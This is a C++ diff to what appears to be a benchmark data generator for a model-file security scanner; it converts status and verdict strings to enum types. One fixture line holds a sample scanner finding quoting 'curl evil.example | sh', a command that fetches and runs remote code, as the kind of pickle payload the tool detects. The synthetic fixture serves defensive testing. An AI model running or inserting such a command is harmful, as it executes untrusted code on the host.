@@ -21,6 +21,8 @@ namespace {
 using mv::store::AuditCommit;
 using mv::store::FileRecord;
 using mv::store::ModelRecord;
+using mv::store::ModelStatus;
+using mv::store::StatusSource;
 
 const char* kOrgs[] = {
     "meta-llama",  "google",      "microsoft",  "openai",   "mistralai",
@@ -96,9 +98,9 @@ int main(int argc, char** argv) {
       }
       continue;
     }
-    m.status = status;
+    m.status = mv::EnumFromText<ModelStatus>(status);
     m.missed_by_hub = status == "confirmed-unsafe" && !flagged;
-    m.status_source = chance(0.1) ? "reviewer" : "automatic";
+    m.status_source = chance(0.1) ? StatusSource::kReviewer : StatusSource::kAutomatic;
     m.sha = fmt::format("{:040x}", rng() & 0xffffffffffffull);
     m.last_audit = fmt::format("2026-{:02}-{:02}T{:02}:{:02}:00Z", 1 + pick(12), 1 + pick(28),
                                pick(24), pick(60));
@@ -119,13 +121,13 @@ int main(int argc, char** argv) {
       fr.sha256 = fmt::format("{:064x}", rng());
       fr.size = 1000 + rng() % 4000000000ull;
       fr.hub_status = f == 0 && flagged ? m.hub_flag : "safe";
-      fr.verdict = f > 0                          ? "safe"
-                   : status == "confirmed-unsafe" ? "unsafe"
-                   : status == "suspected"        ? "needs-review"
-                                                  : "safe";
+      fr.verdict = mv::EnumFromText<mv::Verdict>(f > 0                          ? "safe"
+                                                 : status == "confirmed-unsafe" ? "unsafe"
+                                                 : status == "suspected"        ? "needs-review"
+                                                                                : "safe");
       fr.summary = "generated";
       fr.bytes_read = 4096;
-      if (fr.verdict == "unsafe")
+      if (fr.verdict == mv::Verdict::kUnsafe)
         fr.report_json =
             R"j({"format":"pytorch-zip","loader":"torch.load","verdict":"unsafe","summary":"runs a shell command","findings":[{"severity":"critical","category":"process","rule":"stdlib.toml:os.system","callable":"posix.system","evidence":"posix.system('curl evil.example | sh')","location":"archive/data.pkl@61","message":"runs a shell command"}]})j";
       a.files.push_back(fr);
@@ -137,10 +139,10 @@ int main(int argc, char** argv) {
     a.scan.tool_version = "modelvet bench";
     mv::store::StatusChange c;
     c.time = m.last_audit;
-    c.to = status;
+    c.to = *m.status;
     c.missed_by_hub = m.missed_by_hub;
-    c.source = m.status_source;
-    c.who = m.status_source == "reviewer" ? "bench-reviewer" : "modelvet bench";
+    c.source = *m.status_source;
+    c.who = c.source == StatusSource::kReviewer ? "bench-reviewer" : "modelvet bench";
     c.reason = "generated";
     a.changes.push_back(c);
     auto id_or = st.CommitAudit(a);
